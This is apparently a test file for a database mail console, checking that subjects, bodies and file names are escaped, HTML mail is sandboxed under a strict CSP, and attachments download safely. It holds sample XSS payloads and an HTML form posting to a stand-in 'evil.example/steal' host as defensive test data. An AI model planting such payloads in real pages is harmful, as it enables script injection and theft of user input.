// What users wrote is shown, never run (SPEC.md section 12): a subject, recipients and a file name
// carrying markup come out escaped; an HTML body is served only inside a sandboxed iframe, from a
// route of its own whose CSP blocks scripts, requests and forms; attachments are downloaded, never shown.
import type { RunningConsole } from "@pg-dbmail/console";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TestDatabase, type TestRole } from "../support/database.js";
import { send } from "../support/mail.js";
import { addPublicProfile, startTestConsole, Visitor } from "./support.js";

const script = "<script>alert('pwned')</script>";
// A file name may not hold a slash, so no closing tag here.
const fileName = 'report <script>alert("pwned").txt';
const htmlBody = `<p>Hello <b>there</b></p>${script}<form action="https://evil.example/steal"><input name="p"><button>Go</button></form><img src="https://tracker.example/pixel.gif">`;

let db: TestDatabase;
let web: RunningConsole;
let carol: TestRole;
let textItem: string;
let htmlItem: string;

beforeAll(async () => {
  db = await TestDatabase.create();
  await addPublicProfile(db);
  carol = await db.createRole("console_carol", { memberOf: ["dbmail_user"] });
  const client = await db.connect(carol);
  textItem = await send(client, {
    recipients: "carol@example.com",
    subject: `Subject ${script}`,
    body: `Body ${script}`,
    attachments: [{ filename: fileName, content: "file content", contentType: "text/html" }],
  });
  htmlItem = await send(client, {
    recipients: "carol@example.com",
    subject: "an HTML mail",
    body: htmlBody,
    body_format: "HTML",
  });
  web = await startTestConsole(db);
});

afterAll(async () => {
  await web?.close();
  await db?.drop();
});

/** The markup of a page without the console's own one script element. */
const withoutOwnScript = (html: string) =>
  html.replace('<script src="/assets/htmx.min.js" defer=""></script>', "");

describe("the console shows what users wrote escaped", () => {
  it("escapes a subject, a body and a file name carrying <script>, in the list and on the item page", async () => {
    const visitor = new Visitor(web.url);
    await visitor.signIn(carol.name);
    const escaped = "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;";
    const list = await visitor.get("/items");
    expect(list.text).toContain(`Subject ${escaped}`);
    const item = await visitor.get(`/items/${textItem}`);
    expect(item.status).toBe(200);
    expect(item.text).toContain(`Subject ${escaped}`);
    expect(item.text).toContain(`Body ${escaped}`);
    expect(item.text).toContain("report &lt;script&gt;alert(&quot;pwned&quot;).txt");
    for (const page of [list, item]) expect(withoutOwnScript(page.text)).not.toMatch(/<script/i);
  });

  it("downloads an attachment as a file (octet-stream, attachment, a safe name), never as a page", async () => {
    const visitor = new Visitor(web.url);
    await visitor.signIn(carol.name);
    const item = await visitor.get(`/items/${textItem}`);
    const link = /href="(\/items\/\d+\/attachments\/\d+)"/.exec(item.text)?.[1] as string;
    const file = await visitor.get(link);
    expect(file.status).toBe(200);
    expect(file.text).toBe("file content");
    expect(file.headers.get("Content-Type")).toBe("application/octet-stream");
    expect(file.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(file.headers.get("Content-Security-Policy")).toBe("default-src 'none'; sandbox");
    expect(file.headers.get("Content-Disposition")).toBe(
      `attachment; filename="report <script>alert(_pwned_).txt"; filename*=UTF-8''report%20%3Cscript%3Ealert%28%22pwned%22%29.txt`,
    );
  });

  it("shows an HTML body only in a sandboxed iframe (no allow-scripts), served with a CSP that runs nothing", async () => {
    const visitor = new Visitor(web.url);
    await visitor.signIn(carol.name);
    const item = await visitor.get(`/items/${htmlItem}`);
    expect(item.status).toBe(200);
    // The item page carries none of the body's markup, only the frame.
    expect(withoutOwnScript(item.text)).not.toMatch(/<script|<form action="https|tracker\.example/i);
    const frames = [...item.text.matchAll(/<iframe[^>]*>/g)].map((m) => m[0]);
    expect(frames).toEqual([
      `<iframe class="body" sandbox="" src="/items/${htmlItem}/body" title="HTML body">`,
    ]);
    const body = await visitor.get(`/items/${htmlItem}/body`);
    expect(body.status).toBe(200);
    expect(body.text).toBe(htmlBody);
    expect(body.headers.get("Content-Type")).toBe("text/html; charset=utf-8");
    expect(body.headers.get("Content-Security-Policy")).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'; frame-ancestors 'self'; sandbox",
    );
    // A plain-text body has no HTML route.
    expect((await visitor.get(`/items/${textItem}/body`)).status).toBe(404);
  });
});
